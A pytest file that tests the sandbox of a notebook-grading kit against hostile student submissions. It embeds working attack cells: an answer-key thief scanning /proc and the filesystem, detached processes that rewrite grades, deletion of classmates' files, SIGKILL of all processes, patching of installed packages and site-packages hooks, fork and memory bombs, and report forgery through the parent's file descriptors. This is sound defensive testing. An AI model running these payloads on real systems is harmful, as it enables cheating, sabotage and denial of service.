"""Hostile submissions: what a student who wants marks they did not earn, or wants to hurt others, can do.

A private assignment (``ex90``, written here, its key in a folder no submission is told
about) is built at test time. Each hostile submission is the student notebook with an
attack appended — written by an attacker who knows every path on the machine: the key,
the grades file, the other submissions, the installed kit. The whole class is graded
once, through the command line, two at a time, like an instructor would; then we check:

- the honest submissions keep full marks (their files untouched);
- no hostile submission scores more than a blank notebook;
- the grades file, the results and the feedback are as written, also seconds later;
- the kit on disk is unchanged, no sandbox process is left, no connection came out.

Each attack is also shown to work where nothing stops it (``test_the_attacks_work_outside_the_sandbox``
runs the key thief and the brute force in this process), so a zero here means the
sandbox stopped it, not that the attack was broken.
"""
from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from r2pkit import cli
from r2pkit.exercises import grade, sandbox
from r2pkit.exercises.build import build, public_file
from r2pkit.exercises.source import load_source

ROOT = Path(__file__).resolve().parents[1]
TIMEOUT = 60

SOURCE = """\
id: ex90
title: A private assignment (test)
intro: A test assignment; its key exists only while the tests run.
setup: |
  x = 1
questions:
  - id: q1
    kind: single
    points: 2
    prompt: Which option is the one the instructor chose?
    options: {a: first, b: second, c: third, d: fourth}
    answer: c
    explanation: The instructor chose c.
    source: this test.
  - id: q2
    kind: multiple
    points: 2
    prompt: Which options did the instructor choose?
    options: {a: first, b: second, c: third, d: fourth}
    answer: [a, d]
    explanation: The instructor chose a and d.
    source: this test.
  - id: q3
    kind: numeric
    points: 3
    tolerance: 0
    prompt: Which whole number between 0 and 5000 did the instructor choose?
    answer: 2718
    explanation: The instructor chose 2718.
    source: this test.
  - id: q4
    kind: text
    points: 3
    prompt: Which word did the instructor choose?
    answer: Srebrenica
    explanation: The instructor chose Srebrenica.
    source: this test.
"""
RIGHT = {"q1": '"c"', "q2": '["a", "d"]', "q3": "2718", "q4": '"Srebrenica"'}
# A dictionary attack on the text question needs a list that holds the answer.
WORDS = ["Rwanda", "Kosovo", "Darfur", "Libya", "Srebrenica", "Aleppo"]


# ------------------------------------------------------------------ the attacks
# Each is a cell appended to the student notebook. KEY, GRADES, NEIGHBOUR … are filled in
# with the real paths (repr) when the submissions are made.
KEY_THIEF = r'''
import glob, os, yaml
from r2pkit.exercises import check
found = {}
def steal(path):
    try:
        if not os.path.isfile(path):  # a pipe or socket would block the thief
            return
        text = open(path, encoding="utf-8").read()
    except Exception:
        return
    if "answer:" in text and "ex90" in text:
        for q in yaml.safe_load(text)["questions"]:
            found[q["id"]] = q["answer"]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except Exception:
        continue
    for i, arg in enumerate(argv):
        if arg.startswith(b"--key") and i + 1 < len(argv):
            steal(argv[i + 1].decode())
    for fd in glob.glob(f"/proc/{pid}/fd/*"):
        steal(fd)
    for other in ("cwd", "root"):
        steal(f"/proc/{pid}/{other}" + KEY)
steal(KEY)
for top in os.listdir("/"):
    if top in ("proc", "sys", "dev", "usr"):
        continue
    for root, dirs, files in os.walk("/" + top):
        for f in files:
            if f.endswith((".yaml", ".yml")):
                steal(os.path.join(root, f))
for qid, answer in found.items():
    check("ex90." + qid, answer)
'''

DETACHED = r'''
import os, subprocess, sys, time
later = f"""
import os, time
time.sleep(3)
for path in {TARGETS!r}:
    try:
        with open(path, "w") as fh:
            fh.write("submission,exercise,question,status,points,max_points\\nme,ex90,q1,correct,100,2\\n")
    except Exception:
        pass
open({MARKER!r}, "w").write("I outlived the grader")
"""
subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        exec(later)
    os._exit(0)
os.waitpid(pid, 0)
'''

SABOTEUR = r'''
import glob, os
for path in [NEIGHBOUR, OTHER_NEIGHBOUR] + glob.glob(os.path.join(SUBMISSIONS, "*")):
    try:
        os.remove(path)
    except Exception:
        pass
    try:
        with open(path, "w") as fh:
            fh.write("{}")
    except Exception:
        pass
'''

KILLER = r'''
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
'''

PATCHER = r'''
import os, site, r2pkit, nbclient
kit = os.path.dirname(r2pkit.__file__)
always_right = "\ndef score(q, answer):\n    return Outcome('correct', q.points, q.points)\n"
for path in [os.path.join(kit, "exercises", "questions.py"), os.path.join(kit, "exercises", "grade.py"),
             os.path.join(kit, "exercises", "runner.py"), os.path.join(os.path.dirname(nbclient.__file__), "client.py")]:
    try:
        with open(path, "a") as fh:
            fh.write(always_right)
    except Exception:
        pass
for folder in site.getsitepackages():
    for name in ("sitecustomize.py", "zz_r2pkit_patch.pth"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write("import os\n")
        except Exception:
            pass
'''

BRUTE_FORCE = r'''
import glob, itertools, json, os
from r2pkit.exercises import check
from r2pkit.exercises.sealed import self_check
public = []
for top in os.listdir("/"):
    if top in ("proc", "sys", "dev", "usr"):
        continue
    for root, dirs, files in os.walk("/" + top):
        public += [os.path.join(root, f) for f in files if f.endswith(".json")]
guesses = {"q1": list("abcd"), "q2": [list(c) for n in range(1, 5) for c in itertools.combinations("abcd", n)],
           "q3": list(range(5001)), "q4": WORDS}
for path in public:
    try:
        data = json.load(open(path, encoding="utf-8"))
        questions = {q["id"]: q for q in data["questions"]} if data.get("id") == "ex90" else {}
    except Exception:
        continue
    for qid, options in guesses.items():
        for guess in options:
            try:
                if self_check(questions[qid], data.get("salt", ""), guess)[1].status == "correct":
                    check("ex90." + qid, guess)
                    break
            except Exception:
                break
'''

NETWORK = r'''
import json, socket
from r2pkit.exercises import check
for host in HOSTS:
    try:
        with socket.create_connection((host, PORT), timeout=2) as s:
            for qid, answer in json.loads(s.recv(65536).decode()).items():
                check("ex90." + qid, answer)
    except Exception:
        pass
'''

MEMORY_BOMB = r'''
blocks = []
try:
    while True:
        blocks.append(b"x" * 200_000_000)
except MemoryError:
    pass
blocks = None
'''

FORK_BOMB = r'''
import os, time
children = 0
try:
    while children < 100_000:
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError:
    pass
'''

FORGER = r'''
import json, os, signal
import r2pkit.exercises.protocol as protocol
claim = {"ex90": {"q1": {"answer": "a", "via": "code"}, "q3": {"answer": 1, "via": "code"},
                  "q4": {"answer": "Rwanda", "via": "code"}, "q9": {"answer": "anything"}}}
protocol.collect = lambda namespace=None: json.dumps(claim)  # what the grader's cell will now send
report = {"answers": claim, "errored_cells": "all of them", "stopped_at": None, "stop_status": "correct",
          "done": True}
line = ("R2PKIT-REPORT " + json.dumps(report) + "\n").encode()
runner = os.getppid()
for fd in os.listdir(f"/proc/{runner}/fd"):  # the runner's own report, where the system lets us
    try:
        with open(f"/proc/{runner}/fd/{fd}", "wb") as out:
            out.write(line)
    except Exception:
        pass
'''

FLOOD = r'''
import os
import r2pkit.exercises.protocol as protocol
huge = '{"ex90": {"q4": {"answer": "' + "x" * 20_000_000 + '", "via": "code"}}}'
protocol.collect = lambda namespace=None: huge  # 20 MB of answers after every cell
runner = os.getppid()
for fd in os.listdir(f"/proc/{runner}/fd"):
    try:
        with open(f"/proc/{runner}/fd/{fd}", "wb") as out:
            for _ in range(40):
                out.write(b"R2PKIT-REPORT " + b"9" * 1_000_000 + b"\n")
    except Exception:
        pass
'''

ATTACKS = {"key_thief": KEY_THIEF, "detached": DETACHED, "saboteur": SABOTEUR, "killer": KILLER,
           "patcher": PATCHER, "brute_force": BRUTE_FORCE, "network": NETWORK, "memory_bomb": MEMORY_BOMB,
           "fork_bomb": FORK_BOMB, "forger": FORGER, "flood": FLOOD}


# ------------------------------------------------------------------ the class
def run_cli(*argv) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main([str(a) for a in argv])
    return code, out.getvalue(), err.getvalue()


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def kit_files() -> dict[Path, str]:
    """The files the patcher goes for, and the site-packages folders it writes into."""
    import nbclient
    import r2pkit

    kit = Path(r2pkit.__file__).parent
    files = {p: sha(p) for p in kit.rglob("*.py")}
    files[Path(nbclient.__file__).parent / "client.py"] = sha(Path(nbclient.__file__).parent / "client.py")
    return files


def sandbox_processes(uids: range) -> list[int]:
    """Processes still running under one of ``uids``: as root, each submission of a grading run has
    a user id of its own, from a block of the run's own (another grading on the machine has another)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and entry.stat().st_uid in uids:
                found.append(int(entry.name))
        except OSError:
            continue
    return found


class KeyServer:
    """A server that hands the key's answers to whoever connects: the network attack's prize."""

    def __init__(self, answers: dict) -> None:
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.answers = json.dumps(answers).encode()
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.sendall(self.answers)

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


def host_addresses() -> list[str]:
    found = {"127.0.0.1", "localhost"}
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
        found.add(s.getsockname()[0])
    with contextlib.suppress(OSError):
        found.update(socket.gethostbyname_ex(socket.gethostname())[2])
    return sorted(found)


def _answer(nb, qid: str, code: str) -> None:
    cells = [c for c in nb.cells if c.cell_type == "code" and f'check("ex90.{qid}"' in c.source]
    assert len(cells) == 1 and f"{qid} = None" in cells[0].source, f"test set-up: the answer cell of {qid}"
    cells[0].source = cells[0].source.replace(f"{qid} = None", f"{qid} = {code}", 1)


def _with(nb, code: str, **names) -> None:
    for name, value in names.items():
        code = code.replace(name, repr(value))
    nb.cells.append(nbformat.v4.new_code_cell(code))


def handed_out(folder: Path) -> Path:
    """The notebook students get: the assessed version where the build makes one, else the student one."""
    found = {}
    for path in folder.rglob("*.ipynb"):
        mode = nbformat.read(path, as_version=4).metadata.get("r2pkit", {}).get("mode")
        found.setdefault(mode, path)
    assert found.get("assessed") or found.get("practice"), f"test set-up: no student notebook in {sorted(found)}"
    return found.get("assessed") or found["practice"]


class Course:
    def __init__(self, root: Path) -> None:
        self.instructor = root / "instructor"  # the key lives here; nothing tells a submission so
        self.instructor.mkdir()
        self.key = self.instructor / "ex90_private.yaml"
        self.key.write_text(SOURCE, encoding="utf-8")
        self.handout = root / "handout"
        build(self.key, self.handout, execute=False)
        self.student = handed_out(self.handout)
        self.submissions = root / "submissions"
        self.submissions.mkdir()
        self.out = root / "grades" / "grades.csv"
        self.markers = root / "markers"
        self.markers.mkdir()

    def notebook(self):
        return nbformat.read(self.student, as_version=4)

    def write(self, name: str, nb) -> Path:
        path = self.submissions / f"{name}.ipynb"
        nbformat.write(nb, path)
        return path


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    course = Course(tmp_path_factory.mktemp("course"))
    key = load_source(course.key)
    server = KeyServer({q.id: q.answer for q in key.questions})
    names = {"KEY": str(course.key), "GRADES": str(course.out), "SUBMISSIONS": str(course.submissions),
             "NEIGHBOUR": str(course.submissions / "honest_a.ipynb"),
             "OTHER_NEIGHBOUR": str(course.submissions / "honest_b.ipynb"), "WORDS": WORDS,
             "HOSTS": host_addresses(), "PORT": server.port,
             "MARKER": str(course.markers / "detached.txt"),
             "TARGETS": [str(course.out), str(course.out.with_suffix(".json")),
                         str(course.out.parent / "grades_feedback" / "detached.ipynb.md"),
                         str(course.submissions / "honest_a.ipynb")]}
    for name in ("honest_a", "honest_b"):
        nb = course.notebook()
        for qid, code in RIGHT.items():
            _answer(nb, qid, code)
        course.write(name, nb)
    course.write("blank", course.notebook())
    for name, attack in ATTACKS.items():
        nb = course.notebook()
        # fill in the names the attack uses, longest first (OTHER_NEIGHBOUR before NEIGHBOUR)
        code = attack
        for placeholder in sorted(names, key=len, reverse=True):
            code = code.replace(placeholder, repr(names[placeholder]))
        nb.cells.append(nbformat.v4.new_code_cell(code))
        course.write(name, nb)
    kit_solution = ROOT / "exercises" / "solutions" / "ex00_start_here.ipynb"
    (course.submissions / "wrong_assignment.ipynb").write_bytes(kit_solution.read_bytes())
    course.hashes = {p.name: sha(p) for p in course.submissions.iterdir()}
    course.kit_before = kit_files()
    blocks = []

    def recorded(n: int, _draw=sandbox.uid_block) -> int:
        first = _draw(n)
        blocks.append(range(first, first + max(int(n), 1)))
        return first

    start = time.monotonic()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sandbox, "uid_block", recorded)
        course.code, course.stdout, course.stderr = run_cli(
            "grade", course.submissions, "--key", course.key, "--out", course.out, "--jobs", 2, "--timeout", TIMEOUT)
    assert len(blocks) == 1, f"test set-up: one grading run draws one block of user ids, not {len(blocks)}"
    course.uids = blocks[0]
    course.seconds = time.monotonic() - start
    course.written = {p: sha(p) for p in course.out.parent.rglob("*") if p.is_file()}
    time.sleep(5)  # the detached processes' moment (they wait 3 s)
    server.close()
    course.connections = server.connections
    with course.out.open(encoding="utf-8", newline="") as fh:
        course.rows = list(csv.DictReader(fh))
    course.results = json.loads(course.out.with_suffix(".json").read_text(encoding="utf-8"))
    course.max_total = sum(q.points for q in key.questions)
    yield course


def total(course: Course, name: str) -> float:
    return sum(float(r["points"]) for r in course.rows if Path(r["submission"]).name == f"{name}.ipynb")


# ------------------------------------------------------------------ what must hold
def test_the_class_is_graded(course):
    assert course.code == 0, course.stderr
    graded = {Path(r["submission"]).name for r in course.rows}
    assert graded == set(course.hashes)


def test_honest_submissions_keep_full_marks_and_their_files(course):
    for name in ("honest_a", "honest_b"):
        assert total(course, name) == course.max_total, name
        assert sha(course.submissions / f"{name}.ipynb") == course.hashes[f"{name}.ipynb"]


def test_a_blank_notebook_scores_nothing(course):
    assert total(course, "blank") == 0


@pytest.mark.parametrize("attack", sorted(ATTACKS) + ["wrong_assignment"])
def test_no_attack_scores_above_a_blank_notebook(course, attack):
    assert total(course, attack) <= total(course, "blank"), \
        [(r["question"], r["status"], r["points"]) for r in course.rows if r["submission"].endswith(f"/{attack}.ipynb")]


def test_no_submission_file_was_changed(course):
    assert {p.name: sha(p) for p in course.submissions.iterdir()} == course.hashes


def test_the_results_are_as_the_grader_wrote_them_seconds_later(course):
    now = {p: sha(p) for p in course.out.parent.rglob("*") if p.is_file()}
    assert now == course.written
    assert not (course.markers / "detached.txt").exists()


def test_no_process_of_any_submission_is_left(course):
    """The detached processes carry the course's folder in their command line; as root, every
    sandboxed process also has a user id of its own."""
    left = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and str(course.markers).encode() in (entry / "cmdline").read_bytes():
                left.append(int(entry.name))
    assert left == []
    if os.geteuid() == 0:
        assert sandbox_processes(course.uids) == []  # this run's user ids only: another grading may run beside


def test_the_installed_kit_was_not_patched(course):
    assert kit_files() == course.kit_before
    import site

    for folder in site.getsitepackages():
        assert not (Path(folder) / "sitecustomize.py").exists() or "r2pkit" not in (Path(folder) / "sitecustomize.py").read_text()
        assert not (Path(folder) / "zz_r2pkit_patch.pth").exists()


def test_no_connection_came_out_of_a_sandbox(course):
    assert course.connections == 0


def test_the_wrong_assignment_is_reported_as_such(course):
    rows = [r for r in course.rows if r["submission"].endswith("/wrong_assignment.ipynb")]
    assert {r["status"] for r in rows} == {"wrong_exercise"}
    assert "ex00" in course.stdout and "not being graded" in course.stdout


def test_a_flood_of_answers_is_cut_off_and_reported(course):
    [flood] = [s for s in course.results["submissions"] if s["submission"].endswith("/flood.ipynb")]
    assert any("more than the output allowed" in n for n in flood["notes"]), flood["notes"]


def test_a_forged_report_claims_answers_that_are_scored_like_any_other(course):
    [forger] = [s for s in course.results["submissions"] if s["submission"].endswith("/forger.ipynb")]
    got = {q["question"]: (q["status"], q["answer"]) for q in forger["questions"]}
    assert got["q1"] == ("incorrect", "a") and got["q4"] == ("incorrect", "Rwanda")


def test_the_bombs_are_stopped_by_the_limits_not_the_clock(course):
    """The memory and fork bombs hit their limits and the notebook goes on; no time-out."""
    for name in ("memory_bomb", "fork_bomb"):
        statuses = {r["status"] for r in course.rows if r["submission"].endswith(f"/{name}.ipynb")}
        assert "timeout" not in statuses, (name, statuses)


def test_the_attacks_work_outside_the_sandbox(course, tmp_path, monkeypatch):
    """Without the sandbox, the key thief finds the key and the brute force finds every
    practice answer: so the zeros above are the sandbox's doing."""
    import r2pkit.exercises.runtime as rt

    monkeypatch.setattr(rt, "_QUIZZES", {})
    (tmp_path / "ex90.quiz.json").write_text(json.dumps(public_file(load_source(course.key))), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("R2PKIT_EXERCISES", str(tmp_path))
    rt.load("ex90")
    ns: dict = {}
    thief = KEY_THIEF.replace("KEY", repr(str(course.key)))
    exec(thief.replace('os.listdir("/proc")', "[]").replace('os.listdir("/")', "[]"), ns)
    assert set(ns["found"]) == set(RIGHT)
    guesses_found = {}
    import itertools

    from r2pkit.exercises.sealed import self_check

    data = json.loads((tmp_path / "ex90.quiz.json").read_text(encoding="utf-8"))
    questions = {q["id"]: q for q in data["questions"]}
    guesses = {"q1": list("abcd"), "q2": [list(c) for n in range(1, 5) for c in itertools.combinations("abcd", n)],
               "q3": list(range(5001)), "q4": WORDS}
    for qid, options in guesses.items():
        for guess in options:
            if self_check(questions[qid], data["salt"], guess)[1].status == "correct":
                guesses_found[qid] = guess
                break
    assert set(guesses_found) == set(RIGHT)


def test_grading_the_class_took_a_modest_time(course):
    # 16 notebooks, 2 at a time, each limited to TIMEOUT + 30 s: a stuck sandbox would show here
    assert course.seconds < 8 * (TIMEOUT + 30)
